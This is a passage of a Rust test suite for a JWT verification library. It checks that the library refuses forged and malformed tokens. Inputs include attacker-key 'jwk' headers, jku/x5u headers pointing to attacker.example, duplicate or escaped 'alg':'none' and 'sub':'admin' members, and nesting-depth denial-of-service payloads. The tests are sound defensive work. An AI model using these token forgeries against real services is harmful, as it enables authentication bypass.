                found: "ES256".into()
            }
        );
        // And an EdDSA header naming the EdDSA key but carrying the ES256 signature.
        let header = format!(r#"{{"alg":"EdDSA","kid":"{ed_kid}"}}"#);
        let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
        let t = format!("{input}.{}", b64(&es256_sign(&es.signer, input.as_bytes())));
        assert_eq!(jws_err(&t, &set), Error::InvalidSignature);
        // Both tokens through the right kid verify.
        jws_ok(&es.token(&claims()), &set);
        jws_ok(&ed.token(&claims()), &set);
    }

    #[test]
    fn no_kid_with_several_keys() {
        let e = jws_err(&hs(HS_HEADER, &claims()), &two_hs_keys());
        assert_eq!(e, Error::UnknownKey { kid: None });
    }
}

// ============================================== header parameters naming their own key material

mod header_params {
    use super::*;

    #[test]
    fn embedded_jwk_with_the_attackers_own_key() {
        let victim = fixture(Algorithm::ES256);
        let attacker = Key::generate(Algorithm::ES256).unwrap();
        let jwk = serde_json::to_value(attacker.public_jwk().unwrap()).unwrap();
        for header in [
            serde_json::json!({ "alg": "ES256", "jwk": jwk }),
            serde_json::json!({ "alg": "ES256", "typ": "JWT", "jwk": jwk, "kid": attacker.kid() }),
            serde_json::json!({ "alg": "ES256", "jwk": jwk, "kid": victim.public_key().kid() }),
        ] {
            let header = header.to_string();
            let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
            let t = format!("{input}.{}", b64(&es256_sign(&attacker, input.as_bytes())));
            let e = jws_err(&t, &victim.verifier);
            assert_eq!(
                e,
                Error::ForbiddenHeader {
                    param: ForbiddenHeader::Jwk
                },
                "{header}"
            );
            assert_eq!(e.message(), "Header parameter 'jwk' is not allowed");
            // Even a verifier holding the attacker's key refuses a token carrying `jwk`.
            let attackers_own: KeySet = public_copy(&attacker).into();
            assert_eq!(
                jws_err(&t, &attackers_own),
                Error::ForbiddenHeader {
                    param: ForbiddenHeader::Jwk
                }
            );
        }
    }

    #[test]
    fn jku_x5u_x5c_are_never_followed() {
        let cases = [
            (
                "jku",
                r#""https://attacker.example/jwks.json""#,
                ForbiddenHeader::Jku,
            ),
            ("jku", "null", ForbiddenHeader::Jku),
            ("jku", r#""""#, ForbiddenHeader::Jku),
            (
                "x5u",
                r#""https://attacker.example/cert.pem""#,
                ForbiddenHeader::X5u,
            ),
            ("x5u", "[]", ForbiddenHeader::X5u),
            (
                "x5c",
                r#"["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]"#,
                ForbiddenHeader::X5c,
            ),
            ("x5c", "[]", ForbiddenHeader::X5c),
            ("jwk", "{}", ForbiddenHeader::Jwk),
            ("jwk", "null", ForbiddenHeader::Jwk),
            // Escaped member names are the same names.
            (
                "\\u006aku",
                r#""https://attacker.example/""#,
                ForbiddenHeader::Jku,
            ),
            ("x\\u0035c", "[]", ForbiddenHeader::X5c),
            ("\\u006a\\u0077\\u006b", "{}", ForbiddenHeader::Jwk),
        ];
        for (name, value, param) in cases {
            let header = format!(r#"{{"alg":"HS256","typ":"JWT","{name}":{value}}}"#);
            let e = jws_err(&hs(&header, &claims()), &hs_set());
            assert_eq!(e, Error::ForbiddenHeader { param }, "{header}");
            assert_eq!(
                e.message(),
                format!("Header parameter '{}' is not allowed", param.name())
            );
        }
    }

    #[test]
    fn crit_in_any_form() {
        // Every crit is refused; the wording is PyJWT's (flask-jwt-extended's) for the same
        // header, and for what PyJWT would accept (["b64"] with b64 present) jwtx names the
        // extension it does not implement.
        const NOT_A_LIST: &str = "Invalid 'crit' header: must be a non-empty list";
        for (value, b64, message) in [
            ("[]", true, NOT_A_LIST),
            ("null", true, NOT_A_LIST),
            (r#""b64""#, true, NOT_A_LIST),
            (r#"{"b64":true}"#, true, NOT_A_LIST),
            ("0", true, NOT_A_LIST),
            ("false", true, NOT_A_LIST),
            (r#"["exp"]"#, true, "Unsupported critical extension: exp"),
            ("[5]", true, "Invalid 'crit' header: values must be strings"),
            (r#"["b64"]"#, true, "Unsupported critical extension: b64"),
            (
                r#"["b64"]"#,
                false,
                "Critical extension 'b64' is missing from headers",
            ),
        ] {
            for name in ["crit", "\\u0063rit"] {
                let b64 = if b64 { r#","b64":true"# } else { "" };
                let header = format!(r#"{{"alg":"HS256","{name}":{value}{b64}}}"#);
                let e = jws_err(&hs(&header, &claims()), &hs_set());
                assert!(matches!(e, Error::CriticalHeader { .. }), "{header}");
                assert_eq!(e.message(), message, "{header}");
            }
        }
    }

    #[test]
    fn zip_in_any_form() {
        for value in [r#""DEF""#, "null", r#""""#, "true", r#"["DEF"]"#] {
            let header = format!(r#"{{"alg":"HS256","zip":{value}}}"#);
            let e = jws_err(&hs(&header, &claims()), &hs_set());
            assert_eq!(e, Error::CompressedPayload, "{header}");
            assert_eq!(e.message(), "Compressed payloads are not supported");
        }
    }

    #[test]
    fn b64_false_unencoded_payload_is_refused() {
        for value in ["false", "null", r#""false""#, "0"] {
            let header = format!(r#"{{"alg":"HS256","b64":{value}}}"#);
            let e = jws_err(&hs(&header, &claims()), &hs_set());
            assert_eq!(e, Error::HeaderType { param: "b64" }, "{header}");
        }
        // b64:true is the default encoding and changes nothing.
        jws_ok(&hs(r#"{"alg":"HS256","b64":true}"#, &claims()), &hs_set());
    }

    #[test]
    fn typ_is_not_checked() {
        for header in [
            r#"{"alg":"HS256"}"#,
            r#"{"alg":"HS256","typ":"at+jwt"}"#,
            r#"{"alg":"HS256","typ":5}"#,
            r#"{"alg":"HS256","cty":"JWT","x-custom":[1,2]}"#,
        ] {
            jws_ok(&hs(header, &claims()), &hs_set());
        }
    }

    #[test]
    fn jws_json_serialization_is_not_accepted() {
        let t = hs(HS_HEADER, &claims());
        let [h, p, s] = parts(&t);
        let flattened = format!(r#"{{"payload":"{p}","protected":"{h}","signature":"{s}"}}"#);
        assert_eq!(jws_err(&flattened, &hs_set()), Error::NotEnoughSegments);
        let general = format!(
            r#"{{"payload":"{p}","signatures":[{{"protected":"{h}","signature":"{s}"}}]}}"#
        );
        assert_eq!(jws_err(&general, &hs_set()), Error::NotEnoughSegments);
    }
}

// ================================================================== non-canonical base64url

mod base64url {
    use super::*;

    /// A valid HS256 token whose three segments all have trailing bits and contain `-` or `_`.
    fn token() -> String {
        for i in 0..200 {
            let header = format!(
                r#"{{"alg":"HS256","typ":"JWT","h":"{}"}}"#,
                "?>".repeat(i % 7 + 1)
            );
            let payload = format!(
                r#"{{"sub":"alice","exp":{},"p":"{}"}}"#,
                NOW + 900,
                "?>~".repeat(i / 7 % 5 + 1) + &"x".repeat(i / 35)
            );
            let t = hs(&header, &payload);
            let [h, p, s] = parts(&t);
            let ok = |seg: &str| matches!(seg.len() % 4, 2 | 3) && seg.contains(['-', '_']);
            if ok(&h) && ok(&p) && ok(&s) {
                jws_ok(&t, &hs_set());
                return t;
            }
        }
        panic!("no suitable token found");
    }

    fn segment_error(seg: usize) -> Error {
        Error::Base64 {
            segment: [Segment::Header, Segment::Payload, Segment::Signature][seg],
        }
    }

    fn with_segment(t: &str, seg: usize, new: &str) -> String {
        let mut p = parts(t);
        p[seg] = new.to_owned();
        p.join(".")
    }

    const MESSAGES: [&str; 3] = [
        "Invalid header padding",
        "Invalid payload padding",
        "Invalid crypto padding",
    ];

    #[test]
    fn padding() {
        let t = token();
        for (seg, message) in MESSAGES.iter().enumerate() {
            let s = &parts(&t)[seg];
            let padded = format!("{s}{}", "=".repeat((4 - s.len() % 4) % 4));
            for bad in [padded, format!("{s}="), format!("{s}=="), format!("{s}===")] {
                let e = jws_err(&with_segment(&t, seg, &bad), &hs_set());
                assert_eq!(e, segment_error(seg), "{seg}: {bad}");
                assert_eq!(e.message(), *message);
            }
        }
    }

    #[test]
    fn standard_alphabet() {
        let t = token();
        for seg in 0..3 {
            let s = &parts(&t)[seg];
            let std = s.replace('-', "+").replace('_', "/");
            assert_ne!(&std, s);
            let e = jws_err(&with_segment(&t, seg, &std), &hs_set());
            assert_eq!(e, segment_error(seg), "{seg}: {std}");
        }
    }

    #[test]
    fn whitespace_anywhere() {
        let t = token();
        for seg in 0..3 {
            let s = &parts(&t)[seg];
            for ws in [" ", "\n", "\r\n", "\t", "\u{a0}", "\u{2028}"] {
                for at in [0, s.len() / 2, s.len()] {
                    let bad = format!("{}{ws}{}", &s[..at], &s[at..]);
                    let e = jws_err(&with_segment(&t, seg, &bad), &hs_set());
                    assert_eq!(e, segment_error(seg), "{seg} {ws:?} at {at}");
                }
            }
        }
        // Around the whole token too.
        for bad in [format!(" {t}"), format!("{t}\n"), format!("{t} ")] {
            assert!(
                matches!(jws_err(&bad, &hs_set()), Error::Base64 { .. }),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn non_zero_trailing_bits() {
        let t = token();
        for seg in 0..3 {
            let s = &parts(&t)[seg];
            let bad = with_trailing_bit(s).unwrap();
            let e = jws_err(&with_segment(&t, seg, &bad), &hs_set());
            assert_eq!(e, segment_error(seg), "{seg}: {bad}");
        }
    }

    #[test]
    fn impossible_length_and_foreign_characters() {
        let t = token();
        for seg in 0..3 {
            let s = &parts(&t)[seg];
            let cut = &s[..s.len() - s.len() % 4 + 1 - 4];
            assert_eq!(cut.len() % 4, 1);
            let e = jws_err(&with_segment(&t, seg, cut), &hs_set());
            assert_eq!(e, segment_error(seg), "{seg}: {cut}");
            for c in ["!", "%3D", "\u{e9}", "\u{0}", "."] {
                if c == "." {
                    continue; // a dot is a separator: covered by the segment tests
                }
                let bad = format!("{}{c}{}", &s[..4], &s[4..]);
                let e = jws_err(&with_segment(&t, seg, &bad), &hs_set());
                assert_eq!(e, segment_error(seg), "{seg}: {c:?}");
            }
        }
    }
}

// ===================================================================== duplicate member names

mod duplicates {
    use super::*;

    fn assert_duplicate(e: &Error, segment: Segment) {
        match e {
            Error::Json { segment: s, detail } if *s == segment => {
                assert!(detail.starts_with("Duplicate member name"), "{detail}");
            }
            other => panic!("expected a duplicate-member error in {segment:?}, got {other:?}"),
        }
        let part = if segment == Segment::Header {
            "header"
        } else {
            "payload"
        };
        assert!(
            e.message()
                .starts_with(&format!("Invalid {part} string: Duplicate member name")),
            "{}",
            e.message()
        );
    }

    #[test]
    fn in_the_header() {
        for header in [
            r#"{"alg":"HS256","alg":"HS256"}"#,
            r#"{"alg":"none","alg":"HS256"}"#,
            r#"{"alg":"HS256","alg":"none"}"#,
            r#"{"alg":"HS256","\u0061lg":"none"}"#,
            r#"{"\u0061lg":"none","alg":"HS256"}"#,
            r#"{"\u0061lg":"none","\u0061\u006cg":"HS256"}"#,
            r#"{"alg":"HS256","kid":"a","typ":"JWT","kid":"b"}"#,
            r#"{"alg":"HS256","typ":"JWT","crit":[],"crit":[]}"#,
            // Past the first sixteen names (where the checker switches to a hash set).
            r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"i":9,"j":0,"k":1,"l":2,"m":3,"n":4,"o":5,"p":6,"alg":"HS256","q":7,"alg":"x"}"#,
            r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"i":9,"j":0,"k":1,"l":2,"m":3,"n":4,"o":5,"p":6,"q":7,"\u0061":1,"alg":"HS256"}"#,
            r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"alg":"HS256","i":9,"alg":"x"}"#,
            r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"i":9,"a":1,"alg":"HS256"}"#,
            r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"i":9,"\u0061":1,"alg":"HS256"}"#,
            // Other escapes of the same name.
            r#"{"alg":"HS256","a/b":1,"a\/b":2}"#,
            r#"{"alg":"HS256","\ud83d\ude00":1,"😀":2}"#,
            r#"{"alg":"HS256","t\tx":1,"t\u0009x":2}"#,
        ] {
            let e = jws_err(&hs(header, &claims()), &hs_set());
            assert_duplicate(&e, Segment::Header);
        }
    }

    #[test]
    fn in_the_payload() {
        let exp = NOW + 900;
        for payload in [
            format!(r#"{{"sub":"alice","sub":"admin","exp":{exp}}}"#),
            format!(r#"{{"sub":"alice","\u0073ub":"admin","exp":{exp}}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"exp":99999999999}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"\u0065xp":99999999999}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"roles":["user"],"roles":["admin"]}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"x":{{"a":1,"a":2}}}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"x":[{{"a":1}},{{"\u0061":1,"a":2}}]}}"#),
            format!(
                r#"{{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6,"g":7,"h":8,"sub":"alice","exp":{exp},"sub":"admin"}}"#
            ),
        ] {
            let t = hs(HS_HEADER, &payload);
            assert_duplicate(
                &jwtx::dangerous::decode_unverified(&t, DEFAULT_MAX_TOKEN_LEN).unwrap_err(),
                Segment::Payload,
            );
            assert_duplicate(
                &codec().verify::<serde_json::Value>(&t).unwrap_err(),
                Segment::Payload,
            );
            assert_duplicate(
                &codec().verify::<NoClaims>(&t).unwrap_err(),
                Segment::Payload,
            );
        }
    }

    #[test]
    fn distinct_names_that_look_alike_are_fine() {
        // Different code points stay different names.
        let payload = format!(
            r#"{{"sub":"alice","exp":{},"a":1,"A":2,"\u00e9":3,"e\u0301":4,"\ud83d\ude00":5,"\ud83d\ude01":6}}"#,
            NOW + 900
        );
        claims_result(&payload).unwrap();
    }

    #[test]
    fn every_reader_agrees_on_what_json_is() {
        // JSON that is grammatical but that serde_json cannot represent: lone surrogate escapes
        // (`"\ud800"`, no Unicode string; Python's json takes them) and numbers beyond f64
        // (`1e400`; Python reads inf). Accepting or refusing are both defensible, but every
        // reader must agree: whether a token verifies must not depend on the application's
        // claims type, and `decode_unverified` must read what verifies.
        let exp = NOW + 900;
        for payload in [
            format!(r#"{{"sub":"alice","exp":{exp},"x":"\ud800"}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"\udc00":1}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"x":1e400}}"#),
            format!(r#"{{"sub":"alice","exp":{exp},"x":[-1e400]}}"#),
        ] {
            let t = hs(HS_HEADER, &payload);
            let no_claims = codec().verify::<NoClaims>(&t).map(|_| ());
            let value = codec().verify::<serde_json::Value>(&t).map(|_| ());
            let unverified =
                jwtx::dangerous::decode_unverified(&t, DEFAULT_MAX_TOKEN_LEN).map(|_| ());
            assert!(
                no_claims.is_ok() == value.is_ok() && value.is_ok() == unverified.is_ok(),
                "{payload}: Codec::verify::<NoClaims> {no_claims:?}, \
                 Codec::verify::<Value> {value:?}, decode_unverified {unverified:?}"
            );
        }
        // In the header: the JWS layer and the unverified decoder.
        for header in [
            r#"{"alg":"HS256","typ":"\ud800"}"#,
            r#"{"alg":"HS256","x":1e400}"#,
        ] {
            let t = hs(header, &claims());
            let jws_layer = jws::verify(&t, &hs_set(), DEFAULT_MAX_TOKEN_LEN).map(|_| ());
            let unverified =
                jwtx::dangerous::decode_unverified(&t, DEFAULT_MAX_TOKEN_LEN).map(|_| ());
            assert_eq!(
                jws_layer.is_ok(),
                unverified.is_ok(),
                "{header}: jws::verify {jws_layer:?}, decode_unverified {unverified:?}"
            );
        }
    }
}

// ========================================================================== claim-type abuse

mod claims {
    use super::*;

    const TIME_CLAIMS: [(&str, &str); 3] = [
        ("exp", "Expiration Time claim (exp) must be an integer."),
        ("nbf", "Not Before claim (nbf) must be an integer."),
        ("iat", "Issued At claim (iat) must be an integer."),
    ];

    /// Valid claims with `name` set to the JSON text `value` (or removed when `None`).
    fn payload_with(name: &str, value: Option<&str>) -> String {
        let mut members = vec![
            ("sub", "\"alice\"".to_owned()),
            ("iat", NOW.to_string()),
            ("nbf", NOW.to_string()),
            ("jti", "\"j1\"".to_owned()),
            ("exp", (NOW + 900).to_string()),
        ];
        members.retain(|(n, _)| *n != name);
        if let Some(v) = value {
            members.push((name, v.to_owned()));
        }
        let body: Vec<String> = members
            .iter()
            .map(|(n, v)| format!("\"{n}\":{v}"))
            .collect();
        format!("{{{}}}", body.join(","))
    }

    #[test]
    fn sanity_valid_claims_verify() {
        let v = claims_result(&payload_with("x", None)).unwrap();
        assert_eq!(v.sub(), "alice");
        assert_eq!(v.claims().exp, Some(NOW + 900));
    }

    #[test]
    fn numeric_dates_of_the_wrong_type_or_range() {
        for (claim, message) in TIME_CLAIMS {
            for bad in [
                "\"1700000900\"",
                "\"\"",
                "-1",
                "-1700000900",
                "-0.5",
                "-1e-300",
                "1e300",
                "1.7976931348623157e308",
                "9007199254740993",
                "9007199254740994.0",
                "18446744073709551615",
                "18446744073709551616",
                "100000000000000000000000000000",
                "[1700000900]",
                "[]",
                "{}",
                r#"{"$date":1700000900}"#,
                "null",
                "true",
                "false",
            ] {
                let e = claims_err(&payload_with(claim, Some(bad)));
                let name: &'static str = match claim {
                    "exp" => "exp",
                    "nbf" => "nbf",
                    _ => "iat",
                };
                assert_eq!(e, Error::ClaimType { claim: name }, "{claim}={bad}");
                assert_eq!(e.message(), message, "{claim}={bad}");
            }
        }
    }

    #[test]
    fn numbers_beyond_f64_are_refused_with_a_documented_message() {
        // 1e400 is JSON grammar but no finite number: an invalid NumericDate (README.md, "What strict means"). jwtx may
        // call it a claim-type error (flask's text) or malformed JSON (Python's json-style
        // text, which always ends in "(char N)"); it must not hand a client serde's wording.
        for (claim, message) in TIME_CLAIMS {
            for bad in ["1e400", "-1e400", "1E+400"] {
                let e = claims_err(&payload_with(claim, Some(bad)));
                let ok = match &e {
                    Error::ClaimType { .. } => e.message() == message,
                    Error::Json {
                        segment: Segment::Payload,
                        detail,
                    } => detail.ends_with(')') && detail.contains("(char "),
                    _ => false,
                };
                assert!(ok, "{claim}={bad}: {e:?} -> {:?}", e.message());
            }
        }
    }

    #[test]
    fn numeric_date_boundaries() {
        // 2^53 is the largest NumericDate accepted.
        let v = claims_result(&payload_with("exp", Some("9007199254740992"))).unwrap();
        assert_eq!(v.claims().exp, Some(1 << 53));
        // Floats are numbers (PyJWT truncates them).
        let v = claims_result(&payload_with("exp", Some("1700000900.75"))).unwrap();
        assert_eq!(v.claims().exp, Some(NOW + 900));
        claims_result(&payload_with("exp", Some("1.7000009e9"))).unwrap();
        // exp <= now is expired: exp == now is already expired.
        let e = claims_err(&payload_with("exp", Some(&NOW.to_string())));
        assert_eq!(e, Error::Expired { exp: NOW, now: NOW });
        assert_eq!(e.message(), "Token has expired");
        claims_result(&payload_with("exp", Some(&(NOW + 1).to_string()))).unwrap();
        for v in ["0", "-0", "0.0", "1"] {
            assert!(matches!(
                claims_err(&payload_with("exp", Some(v))),
                Error::Expired { .. }
            ));
        }
        // nbf / iat one second in the future.
        let e = claims_err(&payload_with("nbf", Some(&(NOW + 1).to_string())));
        assert_eq!(
            e,
            Error::Immature {
                claim: TimeClaim::Nbf,
                value: NOW + 1,
                now: NOW
            }
        );
        assert_eq!(e.message(), "The token is not yet valid (nbf)");
        let e = claims_err(&payload_with("iat", Some(&(NOW + 1).to_string())));
        assert_eq!(e.message(), "The token is not yet valid (iat)");
        // Leeway covers both.
        let lenient = codec().with_validation(Validation::new().leeway(Duration::from_secs(1)));
        lenient
            .verify::<NoClaims>(&hs(
                HS_HEADER,
                &payload_with("nbf", Some(&(NOW + 1).to_string())),
            ))
            .unwrap();
        lenient
            .verify::<NoClaims>(&hs(HS_HEADER, &payload_with("exp", Some(&NOW.to_string()))))
            .unwrap();
    }

    #[test]
    fn escaped_registered_names_are_still_checked() {
        let future = (NOW + 1000).to_string();
        let p = format!(
            r#"{{"sub":"alice","exp":{},"\u006ebf":{future}}}"#,
            NOW + 900
        );
        assert!(matches!(
            claims_err(&p),
            Error::Immature {
                claim: TimeClaim::Nbf,
                ..
            }
        ));
        let p = format!(r#"{{"sub":"alice","\u0065xp":{NOW}}}"#);
        assert!(matches!(claims_err(&p), Error::Expired { .. }));
        let p = format!(r#"{{"\u0073ub":5,"exp":{}}}"#, NOW + 900);
        assert_eq!(claims_err(&p), Error::ClaimType { claim: "sub" });
    }

    #[test]
    fn missing_exp() {
        let p = payload_with("exp", None);
        let e = claims_err(&p);
        assert_eq!(e, Error::MissingClaim { claim: "exp" });
        assert_eq!(e.message(), "Token is missing the \"exp\" claim");
        let allowing = codec().with_validation(Validation::new().dangerous_allow_missing_exp());
        let v = allowing.verify::<NoClaims>(&hs(HS_HEADER, &p)).unwrap();
        assert_eq!(v.claims().exp, None);
        // Allowing a missing exp does not allow an expired or malformed one.
        let expired = payload_with("exp", Some(&NOW.to_string()));
        assert!(matches!(
            allowing.verify::<NoClaims>(&hs(HS_HEADER, &expired)),
            Err(Error::Expired { .. })
        ));
        let null = payload_with("exp", Some("null"));
        assert_eq!(
            allowing
                .verify::<NoClaims>(&hs(HS_HEADER, &null))
                .unwrap_err(),
            Error::ClaimType { claim: "exp" }
        );
        // Codec-issued tokens without exp need the same opt-in.
        let c = codec();
        let t = c
            .access_token("alice")
            .never_expires()
            .sign()
            .unwrap()
            .token;
        assert_eq!(
            c.verify::<NoClaims>(&t).unwrap_err(),
            Error::MissingClaim { claim: "exp" }
        );
        c.with_validation(Validation::new().dangerous_allow_missing_exp())
            .verify::<NoClaims>(&t)
            .unwrap();
    }

    #[test]
    fn sub_and_jti_must_be_strings() {
        for bad in [
            "5",
            "null",
            "true",
            r#"["alice"]"#,
            r#"{"id":"alice"}"#,
            "1.5",
        ] {
            let e = claims_err(&payload_with("sub", Some(bad)));
            assert_eq!(e, Error::ClaimType { claim: "sub" }, "sub={bad}");
            assert_eq!(e.message(), "Subject must be a string");
            let e = claims_err(&payload_with("jti", Some(bad)));
            assert_eq!(e, Error::ClaimType { claim: "jti" }, "jti={bad}");
            assert_eq!(e.message(), "JWT ID must be a string");
        }
        let e = claims_err(&payload_with("sub", None));
        assert_eq!(e, Error::MissingClaim { claim: "sub" });
        assert_eq!(e.message(), "Missing claim: sub");
        // A missing jti is fine (hand-made tokens), as in flask-jwt-extended.
        assert_eq!(
            claims_result(&payload_with("jti", None)).unwrap().jti(),
            None
        );
    }

    #[test]
    fn issuer_and_audience() {
        let c = codec().with_validation(
            Validation::new()
                .issuer("https://auth.example")
                .audience("api"),
        );
        let base = |extra: &str| format!(r#"{{"sub":"a","exp":{}{extra}}}"#, NOW + 900);
        let err = |p: &str| c.verify::<NoClaims>(&hs(HS_HEADER, p)).unwrap_err();
        assert_eq!(
            err(&base(r#","aud":"api""#)),
            Error::MissingClaim { claim: "iss" }
        );
        assert_eq!(
            err(&base(r#","iss":"https://evil.example","aud":"api""#)),
            Error::InvalidIssuer
        );
        assert_eq!(
            err(&base(r#","iss":5,"aud":"api""#)),
            Error::ClaimType { claim: "iss" }
        );
        assert_eq!(
            err(&base(r#","iss":"https://auth.example""#)),
            Error::MissingClaim { claim: "aud" }
        );
        assert_eq!(
            err(&base(
                r#","iss":"https://auth.example","aud":["web","apix"]"#
            )),
            Error::InvalidAudience
        );
        assert_eq!(
            err(&base(r#","iss":"https://auth.example","aud":[5]"#)),
            Error::ClaimType { claim: "aud" }
        );
        c.verify::<NoClaims>(&hs(
            HS_HEADER,
            &base(r#","iss":"https://auth.example","aud":["web","api"]"#),
        ))
        .unwrap();
    }

    #[test]
    fn refresh_token_where_an_access_token_is_expected() {
        let c = codec();
        let refresh = c.refresh_token("alice").sign().unwrap().token;
        let v = c.verify::<NoClaims>(&refresh).unwrap();
        let e = v.require(TokenKind::Access).unwrap_err();
        assert_eq!(
            e,
            Error::WrongType {
                expected: TokenType::Access
            }
        );
        assert_eq!(e.message(), "Only non-refresh tokens are allowed");
        // And a hand-made `type` other than refresh passes where access tokens go (flask).
        let p = format!(r#"{{"sub":"a","exp":{},"type":"weird"}}"#, NOW + 900);
        claims_result(&p)
            .unwrap()
            .require(TokenKind::Access)
            .unwrap();
        let p = format!(r#"{{"sub":"a","exp":{},"type":5}}"#, NOW + 900);
        assert_eq!(claims_err(&p), Error::ClaimType { claim: "type" });
    }
}

// ============================================================================ size and shape

mod shape {
    use super::*;

    #[test]
    fn oversized_token_is_refused_before_decoding() {
        // Not even base64: the length cap answers first.
        let junk = "!".repeat(DEFAULT_MAX_TOKEN_LEN + 1);
        let e = jws_err(&junk, &hs_set());
        assert_eq!(
            e,
            Error::TooLarge {
                len: DEFAULT_MAX_TOKEN_LEN + 1,
                max: DEFAULT_MAX_TOKEN_LEN
            }
        );
        assert_eq!(e.message(), "Token is too large");
        assert_eq!(codec().verify::<NoClaims>(&junk).unwrap_err(), e);
        assert_eq!(
            jwtx::dangerous::decode_unverified(&junk, DEFAULT_MAX_TOKEN_LEN).unwrap_err(),
            e
        );
        // A genuine token just over the cap, and one exactly at it.
        let sized = |len: usize| -> String {
            let t = (0..10_000)
                .map(|n| {
                    format!(
                        r#"{{"sub":"alice","exp":{},"pad":"{}"}}"#,
                        NOW + 900,
                        "x".repeat(n)
                    )
                })
                .map(|payload| hs(HS_HEADER, &payload))
                .find(|t| t.len() >= len)
                .unwrap();
            assert_eq!(t.len(), len, "no token of exactly {len} bytes");
            t
        };
        let at_cap = sized(DEFAULT_MAX_TOKEN_LEN);
        codec().verify::<NoClaims>(&at_cap).unwrap();
        let over = sized(DEFAULT_MAX_TOKEN_LEN + 1);
        assert!(matches!(
            codec().verify::<NoClaims>(&over),
            Err(Error::TooLarge { .. })
        ));
        // A larger cap accepts it.
        codec()
            .with_validation(Validation::new().max_token_len(64 * 1024))
            .verify::<NoClaims>(&over)
            .unwrap();
    }

    #[test]
    fn custom_smaller_cap() {
        let t = codec().access_token("alice").sign().unwrap().token;
        codec().verify::<NoClaims>(&t).unwrap();
        let small = codec().with_validation(Validation::new().max_token_len(100));
        assert_eq!(
            small.verify::<NoClaims>(&t).unwrap_err(),
            Error::TooLarge {
                len: t.len(),
                max: 100
            }
        );
        assert_eq!(
            jws::verify(&t, &hs_set(), 10).unwrap_err(),
            Error::TooLarge {
                len: t.len(),
                max: 10
            }
        );
        assert_eq!(
            jws::verify("", &hs_set(), 0).unwrap_err(),
            Error::NotEnoughSegments
        );
    }

    fn assert_too_deep(e: &Error, segment: Segment) {
        match e {
            Error::Json { segment: s, detail } if *s == segment => {
                assert!(detail.starts_with("Nesting too deep"), "{detail}");
            }
            other => panic!("expected a nesting error in {segment:?}, got {other:?}"),
        }
    }

    #[test]
    fn deeply_nested_json() {
        let big = 1 << 20;
        for depth in [1000, 100_000] {
            let arrays = format!(
                r#"{{"sub":"alice","exp":{},"x":{}{}}}"#,
                NOW + 900,
                "[".repeat(depth),
                "]".repeat(depth)
            );
            let objects = format!(
                r#"{{"sub":"alice","exp":{},"x":{}1{}}}"#,
                NOW + 900,
                r#"{"a":"#.repeat(depth),
                "}".repeat(depth)
            );
            let c = codec().with_validation(Validation::new().max_token_len(big * 8));
            for payload in [&arrays, &objects] {
                let t = hs(HS_HEADER, payload);
                assert_too_deep(&c.verify::<NoClaims>(&t).unwrap_err(), Segment::Payload);
                assert_too_deep(
                    &c.verify::<serde_json::Value>(&t).unwrap_err(),
                    Segment::Payload,
                );
                assert_too_deep(
                    &jwtx::dangerous::decode_unverified(&t, big * 8).unwrap_err(),
                    Segment::Payload,
                );
            }
            let header = format!(
                r#"{{"alg":"HS256","x":{}{}}}"#,
                "[".repeat(depth),
                "]".repeat(depth)
            );
            let t = hs(&header, &claims());
            assert_too_deep(
                &jws::verify(&t, &hs_set(), big * 8).unwrap_err(),
                Segment::Header,
            );
        }
        // Unterminated deep nesting too.
        let t = hs(HS_HEADER, &format!(r#"{{"x":{}"#, "[".repeat(5000)));
        assert!(matches!(
            codec()
                .with_validation(Validation::new().max_token_len(big))
                .verify::<NoClaims>(&t)
                .unwrap_err(),
            Error::Json {
                segment: Segment::Payload,
                ..
            }
        ));
    }

    #[test]
    fn moderate_nesting_is_fine() {
        let payload = format!(
            r#"{{"sub":"alice","exp":{},"x":{}{}}}"#,
            NOW + 900,
            "[".repeat(16),
            "]".repeat(16)
        );
        let v = codec()
            .verify::<serde_json::Value>(&hs(HS_HEADER, &payload))
            .unwrap();
        assert!(v.custom()["x"].is_array());
    }

    #[test]
    fn four_or_more_segments() {
        let t = hs(HS_HEADER, &claims());
        for bad in [
            format!("{t}."),
            format!("{t}.x"),
            format!("{t}.{}", parts(&t)[2]),
            format!("{t}.."),
            "a.b.c.d".to_owned(),
            "...".to_owned(),
            ".....".to_owned(),
        ] {
            let e = jws_err(&bad, &hs_set());
            assert_eq!(e, Error::TooManySegments, "{bad}");
            assert_eq!(e.message(), "Invalid payload padding");
        }
    }

    #[test]
    fn empty_and_short_tokens() {
        for bad in ["", "abc", "a.b", ".", "eyJhbGciOiJIUzI1NiJ9"] {
            let e = jws_err(bad, &hs_set());
            assert_eq!(e, Error::NotEnoughSegments, "{bad:?}");
            assert_eq!(e.message(), "Not enough segments");
            assert_eq!(codec().verify::<NoClaims>(bad).unwrap_err(), e);
        }
        // Three empty segments: the empty header is not JSON.
        let e = jws_err("..", &hs_set());
        assert_eq!(
            e.message(),
            "Invalid header string: Expecting value: line 1 column 1 (char 0)"
        );
    }

    #[test]
    fn header_and_payload_must_be_json_objects() {
        for header in ["[]", r#""HS256""#, "null", "1", "[{\"alg\":\"HS256\"}]"] {
            let e = jws_err(&hs(header, &claims()), &hs_set());
            assert_eq!(
                e.message(),
                "Invalid header string: must be a json object",
                "{header}"
            );
        }
        for payload in ["[]", r#""alice""#, "null", "1", "true"] {
            let t = hs(HS_HEADER, payload);
            let e = codec().verify::<NoClaims>(&t).unwrap_err();
            assert_eq!(
                e.message(),
                "Invalid payload string: must be a json object",
                "{payload}"
            );
        }
        for (payload, msg) in [
            ("", "Expecting value: line 1 column 1 (char 0)"),
            (
                "{",
